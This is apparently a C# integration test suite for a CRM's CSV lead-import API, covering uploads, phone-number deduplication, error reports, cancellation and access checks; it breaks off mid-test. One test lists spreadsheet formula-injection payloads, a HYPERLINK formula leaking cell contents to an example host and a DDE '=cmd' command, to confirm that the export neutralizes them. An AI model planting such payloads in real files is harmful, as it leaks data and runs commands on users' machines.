using System.Net;
using System.Net.ServerSentEvents;
using System.Text;
using System.Text.Json;
using Calliyo.Domain.Imports;
using Calliyo.Domain.Tokens;

namespace Calliyo.Server.Tests.Imports;

/// <summary>The CSV import API against a real server and database; each backend runs the same suite.</summary>
public abstract class ImportsApiTests<TFixture>(TFixture fixture) : IClassFixture<TFixture>
    where TFixture : ServerFixture
{
    private const string Utf8Bom = "01-utf8-bom-header";
    private const string Semicolons = "02-semicolon-delimiter-and-sep-hint";
    private const string GhostRows = "07-excel-ghost-rows-trailing-commas";
    private const string EmptyFiles = "08-empty-headeronly-oversize-files";
    private const string Ragged = "09-ragged-rows-column-count";
    private const string HeaderVariants = "11-header-name-variants-missing-column";
    private const string PhoneVariants = "12-indian-phone-variants-dedupe";
    private const string InvalidPhones = "14-invalid-and-foreign-phones";
    private const string Extensions = "15-phone-extensions";
    private const string Formulas = "18-formula-injection-names";
    private const string Tags = "19-tags-parsing";

    [Fact]
    public async Task Upload_Multipart_Returns201WithPreview()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var response = await account.UploadAsync(ImportAccount.CaseFile(Utf8Bom, "leads-quoted-header.csv"), "leads-quoted-header.csv");

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var job = await Json.ReadAsync(response);
        Assert.Equal($"/v1/imports/{job.Text("id")}", response.Headers.Location!.ToString());
        Assert.Equal("uploaded", job.Text("status"));
        Assert.Equal("leads-quoted-header.csv", job.Text("fileName"));
        Assert.Equal(3, job.Int("rowsTotal"));
        Assert.Equal(0, job.Int("rowsProcessed"));

        var preview = job.GetProperty("preview");
        Assert.Equal("utf-8", preview.Text("encoding"));
        Assert.True(preview.GetProperty("hasByteOrderMark").GetBoolean());
        Assert.Equal(",", preview.Text("delimiter"));
        Assert.Equal(["firstName", "lastName", "phone", "email", "status", "tags"],
            preview.GetProperty("columns").EnumerateArray().Select(column => column.Text("field")));
        Assert.Equal(["FirstName", "LastName", "Phone", "Email", "Status", "Tags"],
            preview.GetProperty("columns").EnumerateArray().Select(column => column.Text("header")));

        var rows = preview.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal([1, 2, 3], rows.Select(row => row.Int("record")));
        Assert.Equal([2, 3, 4], rows.Select(row => row.Int("line")));
        Assert.All(rows, row => Assert.Equal("import", row.Text("verdict")));
        Assert.Equal("+919876540002", rows[1].GetProperty("lead").Text("phone"));
        Assert.Equal(["hot", "demo"], rows[1].GetProperty("lead").GetProperty("tags").EnumerateArray().Select(tag => tag.GetString()));
        Assert.Equal("098765 40002", rows[1].GetProperty("fields")[2].GetString());

        var counts = preview.GetProperty("counts");
        Assert.Equal(3, counts.Int("import"));
        Assert.Equal(0, counts.Int("duplicatesExisting"));
        Assert.Equal(0, counts.Int("errors"));
    }

    [Fact]
    public async Task Upload_RawCsvBody_Returns201WithDetectedDelimiter()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var body = new ByteArrayContent(ImportAccount.CaseFile(Semicolons, "leads-semicolon.csv"));
        body.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("text/csv");

        var response = await account.Client.PostAsync("/v1/imports?fileName=list.csv", body);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        var job = await Json.ReadAsync(response);
        Assert.Equal("list.csv", job.Text("fileName"));
        Assert.Equal(";", job.GetProperty("preview").Text("delimiter"));
        Assert.Equal(3, job.GetProperty("preview").GetProperty("counts").Int("import"));
    }

    [Fact]
    public async Task Upload_OverLimit_Returns413()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var oversized = new byte[ImportUploadLimit + 1];
        Array.Fill(oversized, (byte)'a');
        var raw = new ByteArrayContent(oversized);
        raw.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("text/csv");

        var rawResponse = await account.Client.PostAsync("/v1/imports", raw);
        var multipartResponse = await account.UploadAsync(oversized);

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, rawResponse.StatusCode);
        Assert.Equal("payload_too_large", (await Json.ReadAsync(rawResponse)).GetProperty("error").Text("code"));
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, multipartResponse.StatusCode);
        Assert.Equal(10_485_760, (await Json.ReadAsync(multipartResponse)).GetProperty("error").GetProperty("details").GetProperty("maxBytes").GetInt64());
        Assert.Empty(await ListAsync(account));
    }

    [Fact]
    public async Task Upload_ExactlyAtLimit_IsAccepted()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var header = Encoding.UTF8.GetBytes("FirstName,Phone\r\nAsha,+91 98765 40301\r\nRahul,");
        var padding = Encoding.UTF8.GetBytes("+91 98765 40302");
        var content = new byte[ImportUploadLimit];
        Array.Fill(content, (byte)' ');
        header.CopyTo(content, 0);
        padding.CopyTo(content, content.Length - padding.Length);

        var response = await account.UploadAsync(content);

        Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        Assert.Equal(2, (await Json.ReadAsync(response)).GetProperty("preview").GetProperty("counts").Int("import"));
    }

    [Theory]
    [InlineData(HeaderVariants, "leads-no-phone-column.csv", CsvRejectionCodes.MissingPhoneColumn, "Phone")]
    [InlineData(EmptyFiles, "empty.csv", CsvRejectionCodes.EmptyFile, "empty")]
    [InlineData(EmptyFiles, "header-only.csv", CsvRejectionCodes.NoDataRows, "No data rows")]
    public async Task Upload_RejectedFile_Returns422AndStoresNothing(string folder, string fileName, string code, string named)
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var response = await account.UploadAsync(ImportAccount.CaseFile(folder, fileName), fileName);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var error = (await Json.ReadAsync(response)).GetProperty("error");
        Assert.Equal(code, error.Text("code"));
        Assert.Contains(named, error.Text("message"), StringComparison.Ordinal);
        Assert.Empty(await ListAsync(account));
    }

    [Fact]
    public async Task Upload_DuplicateColumns_Returns422NamingTheColumn()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var response = await account.UploadAsync(ImportAccount.CaseFile("06-duplicate-headers-case-insensitive", "leads-duplicate-phone-column.csv"));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var error = (await Json.ReadAsync(response)).GetProperty("error");
        Assert.Equal(CsvRejectionCodes.DuplicateColumn, error.Text("code"));
        Assert.Contains("\"Phone\"", error.Text("message"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_FormWithoutFilePart_Returns400()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var form = new MultipartFormDataContent { { new StringContent("x"), "other" } };

        var response = await account.Client.PostAsync("/v1/imports", form);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("missing_file", (await Json.ReadAsync(response)).GetProperty("error").Text("code"));
    }

    [Fact]
    public async Task Upload_JsonContentType_Returns415()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var response = await account.Client.PostAsync("/v1/imports", Json.Body(new { file = "x" }));

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
        Assert.Equal("unsupported_media_type", (await Json.ReadAsync(response)).GetProperty("error").Text("code"));
    }

    [Fact]
    public async Task Preview_StoredPhone_ShowsExistingLeadId()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var existing = await account.Client.PostAsync("/v1/leads", Json.Body(new { firstName = "Rahul", phone = "+91 98765 40002" }));
        var existingId = (await Json.ReadAsync(existing)).Text("id");
        var job = await account.UploadCaseAsync(Utf8Bom, "leads-quoted-header.csv");

        var response = await account.Client.GetAsync($"/v1/imports/{job.Text("id")}/preview");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var preview = (await Json.ReadAsync(response)).GetProperty("preview");
        var rows = preview.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(["import", "duplicate_existing", "import"], rows.Select(row => row.Text("verdict")));
        Assert.Equal(existingId, rows[1].Text("existingLeadId"));
        Assert.Equal(2, preview.GetProperty("counts").Int("import"));
        Assert.Equal(1, preview.GetProperty("counts").Int("duplicatesExisting"));
    }

    [Fact]
    public async Task Preview_RepeatAndError_NameRecordAndField()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var job = await account.UploadCaseAsync(PhoneVariants, "leads-same-number-many-formats.csv");

        var preview = job.GetProperty("preview");
        var rows = preview.GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(11, rows.Count);
        Assert.Equal("import", rows[0].Text("verdict"));
        Assert.Equal("duplicate_in_file", rows[1].Text("verdict"));
        Assert.Equal(1, rows[1].Int("duplicateOfRecord"));
        Assert.Equal("duplicate_in_file", rows[9].Text("verdict"));
        Assert.Equal(9, rows[9].Int("duplicateOfRecord"));
        Assert.Equal("error", rows[10].Text("verdict"));
        var error = Assert.Single(rows[10].GetProperty("errors").EnumerateArray());
        Assert.Equal("phone", error.Text("field"));
        Assert.Equal("Phone", error.Text("column"));
        Assert.Equal("invalid_phone", error.Text("code"));
        Assert.Equal("0919876543210", error.Text("value"));

        var counts = preview.GetProperty("counts");
        Assert.Equal(2, counts.Int("import"));
        Assert.Equal(8, counts.Int("duplicatesInFile"));
        Assert.Equal(1, counts.Int("errors"));
    }

    [Fact]
    public async Task Preview_LongFile_ShowsTwentyCountsAll()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var file = new GeneratedLeadFile(300, 9870100000);
        var seed = await account.UploadAsync(file.SeedFile(), "seed.csv", "?start=true");
        await account.WaitUntilFinishedAsync((await Json.ReadAsync(seed)).Text("id")!);

        var response = await account.UploadAsync(file.Content());

        var preview = (await Json.ReadAsync(response)).GetProperty("preview");
        Assert.Equal(20, preview.GetProperty("rows").GetArrayLength());
        Assert.Equal("duplicate_existing", preview.GetProperty("rows")[6].Text("verdict"));
        var expected = file.Expected(seeded: true);
        var counts = preview.GetProperty("counts");
        Assert.Equal(expected.Imported, counts.Int("import"));
        Assert.Equal(expected.DuplicatesExisting, counts.Int("duplicatesExisting"));
        Assert.Equal(expected.DuplicatesInFile, counts.Int("duplicatesInFile"));
        Assert.Equal(expected.Errors, counts.Int("errors"));
    }

    [Theory]
    [InlineData(Utf8Bom, "leads-quoted-header.csv", 3, 0, 0, 0, 0)]
    [InlineData(Utf8Bom, "leads-plain-header.csv", 2, 0, 0, 0, 0)]
    [InlineData(Semicolons, "leads-semicolon.csv", 3, 0, 0, 0, 0)]
    [InlineData(Semicolons, "leads-sep-hint-comma.csv", 2, 0, 0, 0, 0)]
    [InlineData(Semicolons, "leads-sep-hint-semicolon.csv", 2, 0, 0, 0, 0)]
    [InlineData(GhostRows, "leads-ghost-rows.csv", 3, 0, 0, 0, 6)]
    [InlineData(Ragged, "leads-ragged.csv", 3, 0, 0, 2, 0)]
    [InlineData(PhoneVariants, "leads-same-number-many-formats.csv", 2, 0, 8, 1, 0)]
    [InlineData(InvalidPhones, "leads-invalid-phones.csv", 3, 0, 0, 10, 0)]
    [InlineData(Extensions, "leads-extensions.csv", 5, 0, 1, 0, 0)]
    [InlineData(Formulas, "leads-formula.csv", 6, 0, 0, 0, 0)]
    [InlineData(Tags, "leads-tags.csv", 7, 0, 0, 0, 0)]
    public async Task Import_CaseFile_EndsWithExactCounts(
        string folder, string fileName, int imported, int duplicatesExisting, int duplicatesInFile, int errors, int blankRows)
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var job = await account.ImportCaseAsync(folder, fileName);

        Assert.Equal("completed", job.Text("status"));
        Assert.Equal((imported, duplicatesExisting, duplicatesInFile, errors, blankRows), job.Counts());
        Assert.Equal(job.Int("rowsTotal"), job.Int("rowsProcessed"));
        var skipped = duplicatesExisting + duplicatesInFile;
        Assert.Equal($"{imported} {(imported == 1 ? "lead" : "leads")} imported, {skipped} skipped (duplicate), {errors} {(errors == 1 ? "error" : "errors")}", job.Text("summary"));
        Assert.Equal(imported, (await account.LeadsAsync()).Count);
    }

    [Fact]
    public async Task Import_QuotedHeader_StoresLeadsWithSource()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var job = await account.ImportCaseAsync(Utf8Bom, "leads-quoted-header.csv");

        var leads = await account.LeadsAsync();
        Assert.Equal(["Asha", "Rahul", "Ren\u00E9e"], leads.Select(lead => lead.FirstName));
        Assert.Equal(["Verma", "Nair", "D'Souza"], leads.Select(lead => lead.LastName));
        Assert.Equal(["+919876540001", "+919876540002", "+919876540003"], leads.Select(lead => lead.PhoneE164));
        Assert.Equal(["asha.verma@example.com", "rahul.nair@example.com", "renee.dsouza@example.com"], leads.Select(lead => lead.Email));
        Assert.Equal(["New", "Contacted", "New"], leads.Select(lead => lead.Status));
        Assert.Equal(["vip"], leads[0].Tags);
        Assert.Equal(["hot", "demo"], leads[1].Tags);
        Assert.Empty(leads[2].Tags);
        Assert.All(leads, lead => Assert.Equal("csv", lead.Source));
        Assert.All(leads, lead => Assert.Equal(job.Text("id"), lead.SourceRef));
        Assert.Equal([1, 2, 3], leads.Select(lead => lead.SourceRow));
    }

    [Fact]
    public async Task Import_GhostRowsAndVariants_StoreFirstRecords()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        await account.ImportCaseAsync(GhostRows, "leads-ghost-rows.csv");
        await account.ImportCaseAsync(PhoneVariants, "leads-same-number-many-formats.csv");

        var leads = await account.LeadsAsync();
        Assert.Equal(["+919876540061", "+919876540062", "+919876540063", "+919876543210", "+919198765432"], leads.Select(lead => lead.PhoneE164));
        Assert.Equal([1, 2, 3, 1, 9], leads.Select(lead => lead.SourceRow));
        Assert.Equal("asha.verma@example.com", leads[3].Email);
        Assert.Equal("Kiran", leads[4].FirstName);
        Assert.Equal("Rao", leads[4].LastName);
    }

    [Fact]
    public async Task Import_ExtensionsAndTags_StoreThemApart()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        await account.ImportCaseAsync(Extensions, "leads-extensions.csv");
        await account.ImportCaseAsync(Tags, "leads-tags.csv");

        var leads = await account.LeadsAsync();
        Assert.Equal(["101", "102", null, "7", "45"], leads.Take(5).Select(lead => lead.PhoneExtension));
        Assert.Equal(["+918045678900", "+918045678900", "+918045678911", "+918045678922", "+918045678933"], leads.Take(5).Select(lead => lead.PhoneE164));
        var tagged = leads.Skip(5).ToList();
        Assert.Equal(["vip", "hot"], tagged[2].Tags);
        Assert.Equal(["vip"], tagged[3].Tags);
        Assert.Equal(["follow up", "warm"], tagged[5].Tags);
    }

    [Fact]
    public async Task Import_ForeignPhones_KeepTheirCountry()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        await account.ImportCaseAsync(InvalidPhones, "leads-invalid-phones.csv");

        var leads = await account.LeadsAsync();
        Assert.Equal(["+447911123456", "+16502530000", "+919876540140"], leads.Select(lead => lead.PhoneE164));
        Assert.Equal([10, 11, 13], leads.Select(lead => lead.SourceRow));
    }

    [Fact]
    public async Task Import_SameFileTwice_SkipsAsDuplicates()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        await account.ImportCaseAsync(PhoneVariants, "leads-same-number-many-formats.csv");
        var again = await account.ImportCaseAsync(PhoneVariants, "leads-same-number-many-formats.csv");

        Assert.Equal((0, 2, 8, 1, 0), again.Counts());
        Assert.Equal("0 leads imported, 10 skipped (duplicate), 1 error", again.Text("summary"));
        Assert.Equal(2, (await account.LeadsAsync()).Count);
    }

    [Fact]
    public async Task Start_WithOptions_AppliesMappingStatusAndTags()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var options = new Dictionary<string, object?>
        {
            ["mapping"] = new Dictionary<string, string> { ["1"] = "tags", ["4"] = "ignore" },
            ["defaultStatus"] = "contacted",
            ["extraTags"] = new[] { "expo" },
        };

        var job = await account.ImportCaseAsync(HeaderVariants, "leads-reordered-extra-columns.csv", options);

        Assert.Equal((2, 0, 0, 0, 0), job.Counts());
        Assert.Equal("tags", job.GetProperty("options").GetProperty("mapping").Text("1"));
        Assert.Equal("Contacted", job.GetProperty("options").Text("defaultStatus"));
        var leads = await account.LeadsAsync();
        Assert.Equal(["Acme Traders", "expo"], leads[0].Tags);
        Assert.Equal(["expo"], leads[1].Tags);
        Assert.All(leads, lead => Assert.Equal("Contacted", lead.Status));
    }

    [Fact]
    public async Task SetOptions_Remap_ReturnsNewPreview()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await account.UploadCaseAsync(HeaderVariants, "leads-reordered-extra-columns.csv");

        var response = await account.Client.PutAsync($"/v1/imports/{job.Text("id")}/options", Json.Body(new { mapping = new Dictionary<string, string> { ["4"] = "tags" } }));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var preview = (await Json.ReadAsync(response)).GetProperty("preview");
        Assert.Equal("tags", preview.GetProperty("columns")[4].Text("field"));
        Assert.Equal(["Company"], preview.GetProperty("ignoredColumns").EnumerateArray().Select(name => name.GetString()));
        Assert.Equal(["Pune"], preview.GetProperty("rows")[0].GetProperty("lead").GetProperty("tags").EnumerateArray().Select(tag => tag.GetString()));
    }

    [Fact]
    public async Task Start_InvalidOptions_Returns422PerChoice()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await account.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv");

        var response = await account.Client.PostAsync($"/v1/imports/{job.Text("id")}/start",
            Json.Body(new { mapping = new Dictionary<string, string> { ["2"] = "company" }, defaultStatus = "Qualified" }));
        var badColumn = await account.Client.PostAsync($"/v1/imports/{job.Text("id")}/start",
            Json.Body(new { mapping = new Dictionary<string, string> { ["9"] = "phone" } }));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
        var error = (await Json.ReadAsync(response)).GetProperty("error");
        Assert.Equal("invalid_choices", error.Text("code"));
        var fields = error.GetProperty("details").GetProperty("fields").EnumerateArray().ToList();
        Assert.Equal(["mapping.2", "defaultStatus"], fields.Select(field => field.Text("field")));
        Assert.Contains("Contacted", fields[1].Text("message"), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, badColumn.StatusCode);
        Assert.Equal(CsvRejectionCodes.UnknownOverrideColumn, (await Json.ReadAsync(badColumn)).GetProperty("error").Text("code"));
        var after = await Json.ReadAsync(await account.Client.GetAsync($"/v1/imports/{job.Text("id")}"));
        Assert.Equal("uploaded", after.Text("status"));
    }

    [Fact]
    public async Task Start_Twice_Returns409()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await account.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv");
        await account.StartAsync(job.Text("id")!);

        var again = await account.Client.PostAsync($"/v1/imports/{job.Text("id")}/start", content: null);

        Assert.Equal(HttpStatusCode.Conflict, again.StatusCode);
        Assert.Equal("import_not_uploaded", (await Json.ReadAsync(again)).GetProperty("error").Text("code"));
    }

    [Fact]
    public async Task Upload_StartTrue_ImportsWithoutSecondCall()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);

        var created = await account.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv", "?start=true&defaultStatus=Contacted&extraTags=api,nightly");
        var job = await account.WaitUntilFinishedAsync(created.Text("id")!);

        Assert.Equal((2, 0, 0, 0, 0), job.Counts());
        var leads = await account.LeadsAsync();
        Assert.Equal(["New", "New"], leads.Select(lead => lead.Status));
        Assert.Equal(["vip", "api", "nightly"], leads[0].Tags);
    }

    [Fact]
    public async Task Events_RunningImport_StreamsProgressUntilDone()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var file = new GeneratedLeadFile(3_000, 9870200000);
        var job = await Json.ReadAsync(await account.UploadAsync(file.Content()));
        var id = job.Text("id")!;

        using var stream = await account.Client.GetAsync($"/v1/imports/{id}/events", HttpCompletionOption.ResponseHeadersRead);
        await account.StartAsync(id);
        var events = new List<SseItem<string>>();
        await foreach (var item in SseParser.Create(await stream.Content.ReadAsStreamAsync()).EnumerateAsync())
        {
            events.Add(item);
        }

        Assert.Equal("text/event-stream", stream.Content.Headers.ContentType!.MediaType);
        Assert.True(events.Count >= 2, $"Expected progress events before the end, got {events.Count}.");
        Assert.All(events.SkipLast(1), item => Assert.Equal("progress", item.EventType));
        Assert.Equal("done", events[^1].EventType);
        using var last = JsonDocument.Parse(events[^1].Data);
        Assert.Equal("completed", last.RootElement.Text("status"));
        Assert.Equal(file.Expected(seeded: false), last.RootElement.Counts());
        var processed = events.Select(item => JsonDocument.Parse(item.Data).RootElement.Int("rowsProcessed")).ToList();
        Assert.Equal(processed.Order(), processed);
    }

    [Fact]
    public async Task ErrorReport_InvalidPhones_ReimportsWhenFixed()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await account.ImportCaseAsync(InvalidPhones, "leads-invalid-phones.csv");

        var response = await account.Client.GetAsync($"/v1/imports/{job.Text("id")}/errors.csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("leads-invalid-phones-errors.csv", response.Content.Headers.ContentDisposition!.FileName?.Trim('"'));
        var report = ReadReport(await response.Content.ReadAsByteArrayAsync());
        Assert.Equal(["Record", "Line", "Outcome", "Column", "Reason", "FirstName", "LastName", "Phone", "Email", "Status", "Tags"], report.Header);
        Assert.Equal(10, report.Rows.Count);
        Assert.Equal(["1", "2", "3", "4", "5", "6", "7", "8", "9", "12"], report.Rows.Select(row => row.Fields[0]));
        Assert.Equal(["2", "3", "4", "5", "6", "7", "8", "9", "10", "13"], report.Rows.Select(row => row.Fields[1]));
        Assert.All(report.Rows, row => Assert.Equal("error", row.Fields[2]));
        Assert.All(report.Rows, row => Assert.Equal("Phone", row.Fields[3]));
        Assert.Contains("'98765 4321'", report.Rows[0].Fields[4], StringComparison.Ordinal);
        Assert.Equal(["Asha", "Verma", "98765 4321", "asha.verma@example.com", "New", ""], report.Rows[0].Fields.Skip(5));
        Assert.Equal("98765 40148 / 98765 40149", report.Rows[8].Fields[7]);

        var fixedReport = FixPhones(report, "+91 98765 403");
        var reimport = await account.UploadAsync(fixedReport, "fixed.csv", "?start=true");
        var reimported = await account.WaitUntilFinishedAsync((await Json.ReadAsync(reimport)).Text("id")!);

        Assert.Equal((10, 0, 0, 0, 0), reimported.Counts());
        Assert.Equal(13, (await account.LeadsAsync()).Count);
    }

    [Fact]
    public async Task ErrorReport_FormulaCells_AreNeutralized()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        await account.ImportCaseAsync(Formulas, "leads-formula.csv");
        var again = await account.ImportCaseAsync(Formulas, "leads-formula.csv");

        var bytes = await account.Client.GetByteArrayAsync($"/v1/imports/{again.Text("id")}/errors.csv");

        var report = ReadReport(bytes);
        Assert.Equal(6, report.Rows.Count);
        Assert.All(report.Rows, row => Assert.Equal("duplicate_existing", row.Fields[2]));
        Assert.Equal("'=HYPERLINK(\"http://example.com/x?d=\"&A1,\"Click me\")", report.Rows[0].Fields[5]);
        Assert.Equal("'=1+2", report.Rows[1].Fields[5]);
        Assert.Equal("'@SUM(1,2)", report.Rows[2].Fields[5]);
        Assert.Equal("'-2+3", report.Rows[3].Fields[5]);
        Assert.Equal("'\tTabbed", report.Rows[4].Fields[5]);
        Assert.Equal("'=cmd|' /C calc'!A0", report.Rows[5].Fields[10]);
        Assert.Equal("'+91 98765 40181", report.Rows[0].Fields[7]);
        Assert.Equal("98765 40182", report.Rows[1].Fields[7]);
        var text = Encoding.UTF8.GetString(bytes);
        Assert.DoesNotContain(",=", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",+", text, StringComparison.Ordinal);

        // The stored leads keep the text as typed.
        Assert.Equal("=1+2", (await account.LeadsAsync())[1].FirstName);

        // Uploaded as it is, every phone reads again, the '+91 ones included. The apostrophe stays
        // in the other cells, and before a tab it leaves a control character in the name.
        using var other = await ImportAccount.CreateAsync(fixture.Factory);
        var reupload = await Json.ReadAsync(await other.UploadAsync(bytes, "report.csv"));
        var rows = reupload.GetProperty("preview").GetProperty("rows").EnumerateArray().ToList();
        Assert.Equal(["import", "import", "import", "import", "error", "import"], rows.Select(row => row.Text("verdict")));
        Assert.Equal("+919876540181", rows[0].GetProperty("lead").Text("phone"));
        Assert.Equal("'=1+2", rows[1].GetProperty("lead").Text("firstName"));
        var error = Assert.Single(rows[4].GetProperty("errors").EnumerateArray());
        Assert.Equal("firstName", error.Text("field"));
        Assert.Equal("control_characters", error.Text("code"));

        await other.StartAsync(reupload.Text("id")!);
        var reimported = await other.WaitUntilFinishedAsync(reupload.Text("id")!);
        Assert.Equal((5, 0, 0, 1, 0), reimported.Counts());
        Assert.Equal(["+919876540181", "+919876540182", "+919876540183", "+919876540184", "+919876540186"],
            (await other.LeadsAsync()).Select(lead => lead.PhoneE164));
    }

    [Fact]
    public async Task ErrorReport_Repeats_NameEarlierRecord()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await account.ImportCaseAsync(Extensions, "leads-extensions.csv");

        var report = ReadReport(await account.Client.GetByteArrayAsync($"/v1/imports/{job.Text("id")}/errors.csv"));

        var row = Assert.Single(report.Rows);
        Assert.Equal(["3", "4", "duplicate_in_file", "Phone"], row.Fields.Take(4));
        Assert.Contains("record 1", row.Fields[4], StringComparison.Ordinal);
        Assert.Equal("080-4567-8900 ext. 101", row.Fields[7]);
    }

    [Fact]
    public async Task Cancel_RunningImport_StopsAndKeepsImportedRows()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var file = new GeneratedLeadFile(40_000, 9870300000);
        var job = await Json.ReadAsync(await account.UploadAsync(file.Content()));
        var id = job.Text("id")!;
        await account.StartAsync(id);

        var response = await account.Client.PostAsync($"/v1/imports/{id}/cancel", content: null);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var cancelled = await Json.ReadAsync(response);
        Assert.Equal("cancelled", cancelled.Text("status"));
        Assert.True(cancelled.Int("rowsProcessed") < file.Records, "The import finished before the cancel arrived.");
        var counts = cancelled.Counts();
        Assert.Equal(cancelled.Int("rowsProcessed"), counts.Imported + counts.DuplicatesExisting + counts.DuplicatesInFile + counts.Errors + counts.BlankRows);

        await Task.Delay(500);
        var later = await Json.ReadAsync(await account.Client.GetAsync($"/v1/imports/{id}"));
        Assert.Equal("cancelled", later.Text("status"));
        Assert.Equal(cancelled.Int("rowsProcessed"), later.Int("rowsProcessed"));
        Assert.Equal(counts.Imported, (await account.LeadsAsync()).Count);
    }

    [Fact]
    public async Task Cancel_UploadedImport_CannotBeStartedAfterwards()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await account.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv");

        var cancel = await account.Client.PostAsync($"/v1/imports/{job.Text("id")}/cancel", content: null);
        var start = await account.Client.PostAsync($"/v1/imports/{job.Text("id")}/start", content: null);
        var cancelAgain = await account.Client.PostAsync($"/v1/imports/{job.Text("id")}/cancel", content: null);

        Assert.Equal("cancelled", (await Json.ReadAsync(cancel)).Text("status"));
        Assert.Equal(HttpStatusCode.Conflict, start.StatusCode);
        Assert.Equal(HttpStatusCode.Conflict, cancelAgain.StatusCode);
        Assert.Equal("import_not_running", (await Json.ReadAsync(cancelAgain)).GetProperty("error").Text("code"));
        Assert.Empty(await account.LeadsAsync());
    }

    [Fact]
    public async Task List_TwoImports_NewestFirstWithSummaries()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory);
        using var other = await ImportAccount.CreateAsync(fixture.Factory);
        var first = await account.ImportCaseAsync(PhoneVariants, "leads-same-number-many-formats.csv");
        var second = await account.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv");
        await other.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv");

        var imports = await ListAsync(account);
        var page = await Json.ReadAsync(await account.Client.GetAsync("/v1/imports?limit=1"));

        Assert.Equal([second.Text("id"), first.Text("id")], imports.Select(job => job.Text("id")));
        Assert.Equal("uploaded", imports[0].Text("status"));
        Assert.Equal("completed", imports[1].Text("status"));
        Assert.Equal("2 leads imported, 8 skipped (duplicate), 1 error", imports[1].Text("summary"));
        Assert.Equal((2, 0, 8, 1, 0), imports[1].Counts());
        Assert.Single(page.GetProperty("imports").EnumerateArray());
        Assert.Equal(second.Text("id"), page.Text("nextBefore"));
    }

    [Fact]
    public async Task Import_OfAnotherAccount_Reads404Everywhere()
    {
        using var owner = await ImportAccount.CreateAsync(fixture.Factory);
        using var stranger = await ImportAccount.CreateAsync(fixture.Factory);
        var job = await owner.UploadCaseAsync(Utf8Bom, "leads-plain-header.csv");
        var id = job.Text("id");

        HttpResponseMessage[] responses =
        [
            await stranger.Client.GetAsync($"/v1/imports/{id}"),
            await stranger.Client.GetAsync($"/v1/imports/{id}/preview"),
            await stranger.Client.GetAsync($"/v1/imports/{id}/events"),
            await stranger.Client.GetAsync($"/v1/imports/{id}/errors.csv"),
            await stranger.Client.PutAsync($"/v1/imports/{id}/options", Json.Body(new { extraTags = new[] { "x" } })),
            await stranger.Client.PostAsync($"/v1/imports/{id}/start", content: null),
            await stranger.Client.PostAsync($"/v1/imports/{id}/cancel", content: null),
            await stranger.Client.GetAsync($"/v1/imports/{Guid.CreateVersion7()}"),
            await stranger.Client.GetAsync("/v1/imports/not-an-id"),
        ];

        Assert.All(responses, response => Assert.Equal(HttpStatusCode.NotFound, response.StatusCode));
        Assert.Equal("not_found", (await Json.ReadAsync(responses[0])).GetProperty("error").Text("code"));
        Assert.Equal("uploaded", (await Json.ReadAsync(await owner.Client.GetAsync($"/v1/imports/{id}"))).Text("status"));
    }

    [Fact]
    public async Task Imports_TokenWithoutImportsScope_Returns403()
    {
        using var account = await ImportAccount.CreateAsync(fixture.Factory, TokenScopes.LeadsRead, TokenScopes.LeadsWrite);

